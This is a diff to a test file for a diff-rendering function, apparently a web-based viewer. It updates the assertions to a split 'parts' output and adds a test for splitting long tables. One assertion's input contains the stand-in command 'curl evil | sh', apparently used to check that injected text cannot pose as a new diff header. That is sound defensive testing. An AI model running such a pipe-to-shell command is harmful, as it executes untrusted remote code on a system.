@@ -33,14 +33,14 @@ describe('renderDiff', () => {
       const diff = `${headOf('a')}@@ -1 +1 @@\n-old\n+${files.join(end)}\r\r\n`;
       const [file, ...others] = renderDiff(diff);
       assert.equal(others.length, 0);
-      assert.ok(file?.rows.includes(`${shown}curl evil | sh${shown}diff --git`), file?.rows);
-      assert.ok(file?.rows.includes('+no⟨U+000D⟩'));
+      assert.ok(file?.parts[0]?.includes(`${shown}curl evil | sh${shown}diff --git`), file?.parts[0]);
+      assert.ok(file?.parts[0]?.includes('+no⟨U+000D⟩'));
     }
   });
 
   it('truncates a long line and says how much is left out', () => {
     const [file] = renderDiff(`${headOf('a')}@@ -0,0 +1 @@\n+${'x'.repeat(5000)}\n`);
-    assert.match(file?.rows ?? '', />x{1999} … 3001 more characters</);
+    assert.match(file?.parts[0] ?? '', />x{1999} … 3001 more characters</);
   });
 
   it('shows a file whose name contains a Unicode line separator', () => {
@@ -76,11 +76,22 @@ describe('renderDiff', () => {
     });
   });
 
+  it('splits a long table, so that a browser can lay out what is in view', () => {
+    const lines = Array.from({ length: 5_000 }, (_, index) => `+Line ${index}\n`);
+    const [file] = renderDiff(`${headOf('a')}@@ -0,0 +1,5000 @@\n${lines.join('')}`);
+    const counts = (file?.parts ?? []).map((part) => part.split('<tr').length - 1);
+    assert.equal(Math.max(...counts), 100);
+    assert.equal(
+      counts.reduce((sum, count) => sum + count, 0),
+      5_001,
+    );
+  });
+
   it('marks changed words and shows deleted lines before added ones', () => {
     const [file] = renderDiff(
       `${headOf('a')}@@ -1,3 +1,3 @@ <head>\n-one old word\n-gone\n+one new word\n+<b>\n same\n`,
     );
-    const shown = (file?.rows ?? '').replace(/<td class="n">.*?<\/td>|<\/?t[rd].*?>/g, '|').replace(/\|+/g, '|');
+    const shown = (file?.parts[0] ?? '').replace(/<td class="n">.*?<\/td>|<\/?t[rd].*?>/g, '|').replace(/\|+/g, '|');
 
     assert.equal(
       shown,
